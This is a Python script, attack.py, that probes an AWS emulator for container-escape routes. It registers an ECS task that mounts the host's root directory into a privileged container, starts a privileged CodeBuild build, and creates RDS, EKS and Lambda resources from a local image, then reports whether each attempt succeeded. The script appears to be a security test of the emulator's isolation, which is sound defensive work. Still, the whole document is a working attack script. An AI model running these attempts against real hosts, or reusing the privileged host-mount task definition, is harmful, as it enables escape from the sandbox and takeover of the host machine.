"""Tries to reach the container engine through the emulator's API, as whoever owns the virtual machine could.

Usage: attack.py ENDPOINT. Prints what each attempt led to; whether a container came of it, Docker is asked.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from typing import Any

import boto3
from botocore.config import Config

IMAGE = "smart-classroom/aws-emulator"
ROLE = "arn:aws:iam::000000000000:role/x"


def client(service: str) -> Any:
    """A client of the emulator."""
    create: Any = boto3.client
    config = Config(connect_timeout=5, read_timeout=60, retries={"total_max_attempts": 1})
    return create(service, endpoint_url=sys.argv[1], region_name="us-east-1", config=config)


def ecs_with_the_hosts_disk() -> object:
    """A task that has the host's root directory in it, and every right."""
    ecs = client("ecs")
    ecs.create_cluster(clusterName="thief")
    disk = {"name": "host", "host": {"sourcePath": "/"}}
    container = {
        "name": "a",
        "image": IMAGE,
        "privileged": True,
        "memory": 64,
        "mountPoints": [{"sourceVolume": "host", "containerPath": "/host"}],
    }
    ecs.register_task_definition(family="thief", containerDefinitions=[container], volumes=[disk])
    answer = ecs.run_task(cluster="thief", taskDefinition="thief")
    return answer["failures"] or [task["lastStatus"] for task in answer["tasks"]]


def codebuild() -> object:
    """A build in a container that has every right."""
    build = client("codebuild")
    environment = {
        "type": "LINUX_CONTAINER",
        "image": IMAGE,
        "computeType": "BUILD_GENERAL1_SMALL",
        "privilegedMode": True,
    }
    source = {"type": "NO_SOURCE", "buildspec": "version: 0.2\nphases: {build: {commands: [id]}}"}
    artifacts = {"type": "NO_ARTIFACTS"}
    build.create_project(name="thief", source=source, artifacts=artifacts, environment=environment, serviceRole=ROLE)
    return build.start_build(projectName="thief")["build"]["buildStatus"]


def database() -> object:
    """A database's container."""
    instance = client("rds").create_db_instance(
        DBInstanceIdentifier="thief",
        DBInstanceClass="db.t3.micro",
        Engine="postgres",
        MasterUsername="thief",
        MasterUserPassword="unchecked-by-the-emulator",
        AllocatedStorage=20,
    )
    return instance["DBInstance"]["DBInstanceStatus"]


def cluster() -> object:
    """A Kubernetes cluster, whose container has every right."""
    network = {"subnetIds": ["subnet-1", "subnet-2"]}
    return client("eks").create_cluster(name="thief", roleArn=ROLE, resourcesVpcConfig=network)["cluster"]["status"]


def function_of_any_image() -> object:
    """A function of an image that is on this machine, but not the function's."""
    functions = client("lambda")
    functions.create_function(FunctionName="thief", Role=ROLE, PackageType="Image", Code={"ImageUri": IMAGE})
    return functions.invoke(FunctionName="thief")["FunctionError"]


def main() -> None:
    """Try each."""
    attempts: list[Callable[[], object]] = [
        ecs_with_the_hosts_disk,
        codebuild,
        database,
        cluster,
        function_of_any_image,
    ]
    for attempt in attempts:
        try:
            found: object = attempt()
        except Exception as error:
            found = f"{type(error).__name__}: {error}"
        sys.stdout.write(f"{attempt.__name__}: {found}\n")


if __name__ == "__main__":
    main()
